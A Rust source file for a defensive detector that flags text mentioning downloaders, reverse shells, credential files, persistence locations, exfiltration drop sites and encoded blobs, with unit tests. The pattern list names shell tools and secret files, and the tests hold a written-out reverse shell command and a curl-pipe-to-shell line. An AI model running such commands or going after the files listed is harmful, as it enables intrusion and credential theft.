//! What a string mentions: paths, programs, addresses. One pass, patterns indexed by their first byte.
//!
//! A set of mentions is a `u32` of the constants below.

use std::sync::LazyLock;

/// A directory that everyone may write to.
pub const TEMPORARY: u32 = 1;
/// A downloader, or a shell's connection to the network.
pub const DOWNLOAD: u32 = 1 << 1;
/// A shell with its input and output on the network.
pub const REVERSE_SHELL: u32 = 1 << 2;
/// A file of keys, tokens or passwords.
pub const CREDENTIALS: u32 = 1 << 3;
/// A file or service that the system runs later.
pub const PERSISTENCE: u32 = 1 << 4;
/// The address of a site for anonymous uploads, or of a cloud's metadata service.
pub const DROP: u32 = 1 << 5;
/// A URL.
pub const URL: u32 = 1 << 6;
/// An IPv4 address that is not local.
pub const ADDRESS: u32 = 1 << 7;
/// A shell with a command.
pub const SHELL: u32 = 1 << 8;
/// A long text that looks random.
pub const BLOB: u32 = 1 << 9;
/// A credential file that few programs read.
pub const MORE_CREDENTIALS: u32 = 1 << 10;
/// A file or directory whose name begins with a dot.
pub const HIDDEN: u32 = 1 << 11;
/// Decoding on the command line.
pub const SHELL_DECODE: u32 = 1 << 12;
/// Output piped into an interpreter: `curl ... | sh`.
pub const PIPE_TO_SHELL: u32 = 1 << 13;
/// An environment variable that makes Python or the loader run something.
pub const LOADER_VARIABLE: u32 = 1 << 14;

/// Bytes to look for, and what they mention.
type Pattern = (&'static [u8], u32);

/// Patterns, grouped by subject. One that begins with a letter must not follow a letter or digit.
const PATTERNS: &[Pattern] = &[
    (b"/tmp", TEMPORARY),
    (b"/var/tmp", TEMPORARY),
    (b"/dev/shm", TEMPORARY),
    (b"/run/shm", TEMPORARY),
    (b"/dev/tcp/", DOWNLOAD | REVERSE_SHELL),
    (b"/dev/udp/", DOWNLOAD | REVERSE_SHELL),
    (b"/inet/tcp/", DOWNLOAD | REVERSE_SHELL),
    (b"bash -i", REVERSE_SHELL | SHELL),
    (b"sh -i", REVERSE_SHELL | SHELL),
    (b"nc -", DOWNLOAD),
    (b"nc.traditional", DOWNLOAD),
    (b"ncat ", DOWNLOAD),
    (b"netcat ", DOWNLOAD),
    (b"nc -e", REVERSE_SHELL),
    (b"socat ", DOWNLOAD),
    (b"mkfifo ", SHELL | REVERSE_SHELL),
    (b"telnet ", DOWNLOAD),
    (b"curl ", DOWNLOAD),
    (b"wget ", DOWNLOAD),
    (b"openssl s_client", DOWNLOAD | REVERSE_SHELL),
    (b"bash -c", SHELL),
    (b"sh -c", SHELL),
    (b"base64 -d", SHELL_DECODE),
    (b"base64 --decode", SHELL_DECODE),
    (b"xxd -r", SHELL_DECODE),
    (b"|sh", PIPE_TO_SHELL),
    (b"| sh", PIPE_TO_SHELL),
    (b"|bash", PIPE_TO_SHELL),
    (b"| bash", PIPE_TO_SHELL),
    (b"|python", PIPE_TO_SHELL),
    (b"| python", PIPE_TO_SHELL),
    (b".ssh/id_", CREDENTIALS | MORE_CREDENTIALS),
    (b".ssh", CREDENTIALS),
    (b"id_rsa", CREDENTIALS),
    (b"id_ed25519", CREDENTIALS),
    (b".aws/", CREDENTIALS),
    (b".kube/", CREDENTIALS),
    (b".azure/", CREDENTIALS),
    (b".config/gcloud", CREDENTIALS),
    (b"application_default_credentials", CREDENTIALS),
    (b".npmrc", CREDENTIALS),
    (b".pypirc", CREDENTIALS),
    (b".netrc", CREDENTIALS),
    (b".git-credentials", CREDENTIALS),
    (b".docker/config", CREDENTIALS),
    (b".config/gh/hosts", CREDENTIALS),
    (b".gnupg", CREDENTIALS),
    (b".pgpass", CREDENTIALS),
    (b".vault-token", CREDENTIALS),
    (b"keyrings/", CREDENTIALS),
    (b"wallet.dat", CREDENTIALS),
    (b"logins.json", CREDENTIALS),
    (b"Login Data", CREDENTIALS),
    (b"cookies.sqlite", CREDENTIALS),
    (b".bash_history", CREDENTIALS),
    (b"/etc/shadow", CREDENTIALS | MORE_CREDENTIALS),
    (b"/etc/gshadow", CREDENTIALS),
    (b"serviceaccount/token", CREDENTIALS),
    (b"AWS_SECRET_ACCESS_KEY", CREDENTIALS),
    (b"/proc/self/environ", CREDENTIALS),
    (b"169.254.169.254", CREDENTIALS | DROP),
    (b"metadata.google.internal", CREDENTIALS | DROP),
    (b"authorized_keys", PERSISTENCE),
    (b"crontab", PERSISTENCE),
    (b"/etc/cron", PERSISTENCE),
    (b"/var/spool/cron", PERSISTENCE),
    (b"@reboot", PERSISTENCE),
    (b"systemd/system", PERSISTENCE),
    (b"systemd/user", PERSISTENCE),
    (b"systemctl enable", PERSISTENCE),
    (b"systemctl --user enable", PERSISTENCE),
    (b".bashrc", PERSISTENCE),
    (b".bash_profile", PERSISTENCE),
    (b".profile", PERSISTENCE),
    (b".zshrc", PERSISTENCE),
    (b".zshenv", PERSISTENCE),
    (b"/etc/profile", PERSISTENCE),
    (b"/etc/rc.local", PERSISTENCE),
    (b"/etc/init.d", PERSISTENCE),
    (b"/etc/ld.so.preload", PERSISTENCE),
    (b"/etc/sudoers", PERSISTENCE),
    (b"/etc/passwd", PERSISTENCE),
    (b"autostart/", PERSISTENCE),
    (b"sitecustomize.py", PERSISTENCE),
    (b"usercustomize.py", PERSISTENCE),
    (b"LD_PRELOAD", LOADER_VARIABLE),
    (b"PYTHONSTARTUP", LOADER_VARIABLE),
    (b"PYTHONBREAKPOINT", LOADER_VARIABLE),
    (b"pastebin.com", DROP),
    (b"paste.ee", DROP),
    (b"transfer.sh", DROP),
    (b"webhook.site", DROP),
    (b"discord.com/api/webhooks", DROP),
    (b"discordapp.com/api/webhooks", DROP),
    (b"api.telegram.org", DROP),
    (b"ngrok", DROP),
    (b".onion", DROP),
    (b"oastify.com", DROP),
    (b"oast.", DROP),
    (b"interact.sh", DROP),
    (b"pipedream.net", DROP),
    (b"requestbin", DROP),
    (b"http://", URL),
    (b"https://", URL),
    (b"ftp://", URL),
];

/// The patterns by their first byte, which is ASCII.
static BY_FIRST_BYTE: LazyLock<Vec<Vec<Pattern>>> = LazyLock::new(|| {
    let begins = |byte: u8| PATTERNS.iter().copied().filter(|(pattern, _)| pattern.first() == Some(&byte)).collect();
    (0..128).map(begins).collect()
});

/// Length at which a run of letters and digits is tested for randomness.
const BLOB_LENGTH: usize = 160;

/// The set of everything that the text mentions. Linear in its length.
pub fn mentions(text: &[u8]) -> u32 {
    let mut found = 0;
    let mut before = b' ';
    let mut run = 0_usize;
    for (at, byte) in text.iter().copied().enumerate() {
        if !before.is_ascii_alphanumeric() || !byte.is_ascii_alphanumeric() {
            found |= mentions_at(text, at, byte, before);
        }
        run =
            if byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=' | b'_' | b'-') { run + 1 } else { 0 };
        if run == BLOB_LENGTH && looks_random(text.get(at + 1 - run..=at).unwrap_or_default()) {
            found |= BLOB;
        }
        before = byte;
    }
    found
}

/// What begins at this place, with `byte`, after `before`.
fn mentions_at(text: &[u8], at: usize, byte: u8, before: u8) -> u32 {
    let mut found = 0;
    let patterns = BY_FIRST_BYTE.get(usize::from(byte)).map_or(&[][..], Vec::as_slice);
    if !patterns.is_empty() {
        let rest = text.get(at..).unwrap_or_default();
        for (pattern, bits) in patterns {
            if !rest.starts_with(pattern) {
                continue;
            }
            let after = rest.get(pattern.len()).copied().unwrap_or(b' ');
            let word_goes_on = after.is_ascii_alphanumeric() || after == b'_' || after == b'-';
            let is_directory = bits & TEMPORARY != 0;
            if is_directory && (word_goes_on || before.is_ascii_alphanumeric())
                || bits & LOADER_VARIABLE != 0 && word_goes_on
            {
                continue;
            }
            // `module.profile` and `tool.ssh` are not files.
            let is_file = byte == b'.' && (bits & (CREDENTIALS | PERSISTENCE) != 0);
            if is_file
                && (before.is_ascii_alphanumeric()
                    || after.is_ascii_alphanumeric() && !pattern.ends_with(b"/") && !pattern.ends_with(b"_"))
            {
                continue;
            }
            if bits & CREDENTIALS != 0 && is_public(rest, pattern) {
                continue;
            }
            found |= bits;
        }
    }
    if byte == b'.'
        && matches!(before, b'/')
        && text.get(at + 1).is_some_and(|next| next.is_ascii_alphanumeric() || *next == b'_')
    {
        found |= HIDDEN;
    }
    if byte.is_ascii_digit() && !matches!(before, b'.' | b'-' | b'_') && is_address(text.get(at..).unwrap_or_default())
    {
        found |= ADDRESS;
    }
    found
}

/// `.ssh/config` and the known hosts: many tools read them.
fn is_public(rest: &[u8], pattern: &[u8]) -> bool {
    let tail = rest.get(pattern.len()..).unwrap_or_default();
    *pattern == *b".ssh"
        && (tail.starts_with(b"/known_hosts") || tail.starts_with(b"/config") || tail.starts_with(b"/authorized_keys"))
}

/// Whether the text begins with an IPv4 address that is not local.
fn is_address(text: &[u8]) -> bool {
    let end = text.iter().take(16).take_while(|byte| byte.is_ascii_digit() || **byte == b'.').count();
    let Some(text) = text.get(..end).and_then(|text| std::str::from_utf8(text).ok()) else { return false };
    let numbers: Vec<&str> = text.split('.').collect();
    let is_number = |number: &&str| number.len() <= 3 && number.parse::<u8>().is_ok();
    numbers.len() == 4
        && numbers.iter().all(is_number)
        && !matches!(numbers.first().copied(), Some("0" | "127" | "255"))
        && text.len() >= 7
        && numbers.iter().any(|number| number.len() > 1)
}

/// Whether letters of both cases and digits are as evenly spread as in encoded data.
fn looks_random(text: &[u8]) -> bool {
    let count = |class: fn(&u8) -> bool| text.iter().filter(|byte| class(byte)).count();
    let upper = count(u8::is_ascii_uppercase);
    let lower = count(u8::is_ascii_lowercase);
    let digits = count(u8::is_ascii_digit);
    let slashes = text.iter().filter(|byte| matches!(byte, b'/' | b'_' | b'-')).count();
    let mixed = upper * 8 > text.len() && lower * 8 > text.len() && digits > 3 && slashes * 10 < text.len();
    let hexadecimal = upper == 0 && digits * 4 > text.len() && text.iter().all(u8::is_ascii_hexdigit);
    mixed && entropy(text) > 4.6 || hexadecimal && entropy(text) > 3.3
}

/// Shannon entropy in bits per byte.
fn entropy(text: &[u8]) -> f32 {
    let mut counts = [0_u16; 256];
    for byte in text {
        if let Some(count) = counts.get_mut(usize::from(*byte)) {
            *count = count.saturating_add(1);
        }
    }
    let length = u16::try_from(text.len()).unwrap_or(u16::MAX).max(1);
    let weighted: f32 = counts.iter().map(|count| f32::from(*count) * log2(*count)).sum();
    log2(length) - weighted / f32::from(length)
}

/// The binary logarithm to within a tenth, without loading libm for it.
fn log2(number: u16) -> f32 {
    let Some(whole) = number.checked_ilog2() else { return 0.0 };
    let part = f32::from(number) / f32::from(1_u16 << whole) - 1.0;
    // Straight lines between the powers of two, raised in the middle.
    whole as f32 + part + 0.34 * part * (1.0 - part)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paths_and_programs_are_found_as_words() {
        for (text, expected) in [
            ("/tmp/x", TEMPORARY),
            ("cd /tmp; ls", TEMPORARY),
            ("curl http://a/b | sh", DOWNLOAD | URL | PIPE_TO_SHELL),
            ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", REVERSE_SHELL | DOWNLOAD | ADDRESS | SHELL),
            ("~/.ssh/id_rsa", CREDENTIALS),
            ("/root/.ssh/authorized_keys", PERSISTENCE),
        ] {
            assert_eq!(mentions(text.as_bytes()) & expected, expected, "{text}");
        }
        for text in [
            "/home/u/tmpfiles",
            "/home/tmp",
            "pycurl ",
            "rsync -c",
            "module.profile",
            "version 1.2.3.4",
            "see ~/.ssh/config",
        ] {
            let found = mentions(text.as_bytes()) & !(HIDDEN | URL);
            assert_eq!(found, 0, "{text}");
        }
    }

    #[test]
    fn encoded_data_looks_random_and_prose_does_not() {
        let mut state = 1_u32;
        let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let random: Vec<u8> = std::iter::repeat_with(|| {
            state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            alphabet[usize::try_from(state >> 26).unwrap()]
        })
        .take(400)
        .collect();
        assert_eq!(mentions(&random), BLOB);
        assert_eq!(mentions("the quick brown fox ".repeat(40).as_bytes()), 0);
        assert_eq!(mentions("a".repeat(1000).as_bytes()), 0);
    }
}
